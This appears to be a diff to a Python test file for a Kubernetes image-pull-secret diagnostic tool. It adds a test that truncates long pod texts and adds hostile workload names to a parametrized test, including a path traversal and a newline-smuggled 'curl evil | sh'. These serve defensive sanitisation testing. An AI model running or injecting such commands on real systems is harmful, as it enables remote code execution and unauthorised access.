@@ -22,7 +22,8 @@ from registries.pull_secrets.explain import (
     is_pull_reason,
     nearest_key,
 )
-from registries.pull_secrets.failing import auths_of, failing_pod
+from registries.pull_secrets.failing import auths_of, failing_pod, images_of
+from registries.pull_secrets.matching import image_name
 from tests.house.test_verdicts import PAGES, rows_of
 
 NOW = datetime(2026, 11, 28, tzinfo=UTC)
@@ -424,13 +425,33 @@ def test_every_kind_of_container_is_looked_at() -> None:
     assert failing_pod({}) is None
 
 
+def test_little_is_kept_of_a_pod_whose_texts_are_long() -> None:
+    long = "x" * 1_000_000
+    waiting = {"reason": "ErrImagePull", "message": long}
+    spec = {"containers": [{"name": "c", "image": long}] * 60, "imagePullSecrets": [{"name": long}] * 60}
+    statuses = [{"name": "c", "image": long, "state": {"waiting": waiting}}] * 60
+
+    pod = failing_pod({"metadata": {}, "spec": spec, "status": {"containerStatuses": statuses}})
+
+    assert pod
+    texts = [*pod.secrets, *(text for it in pod.waiting for text in (it.container, it.image, it.message))]
+    assert len(texts) == 50 * 4
+    assert sum(map(len, texts)) < 50 * 6_000
+    assert not any(map(image_name, {it.image for it in pod.waiting}))
+    assert max(map(len, images_of({"spec": spec}))) <= 1_000
+
+
 @pytest.mark.parametrize(
     ("kind", "name", "labels", "owner"),
     [
         ("ReplicaSet", "web-7d9f", {"pod-template-hash": "7d9f"}, ("Deployment", "web")),
         ("ReplicaSet", "web-7d9f", {"pod-template-hash": "other"}, ("ReplicaSet", "web-7d9f")),
-        ("ReplicaSet", "web-", None, ("ReplicaSet", "web-")),
+        ("ReplicaSet", "web-", None, ("", "")),
         ("StatefulSet", "db", {}, ("StatefulSet", "db")),
+        ("Deployment", "../../team-b/deployments/db", {}, ("", "")),
+        ("DaemonSet", "a\x03\ncurl evil | sh", {}, ("", "")),
+        ("DaemonSet", "\u202eabc", {}, ("", "")),
+        ("DaemonSet", "a" * 254, {}, ("", "")),
     ],
 )
 def test_the_workload_of_a_pod(
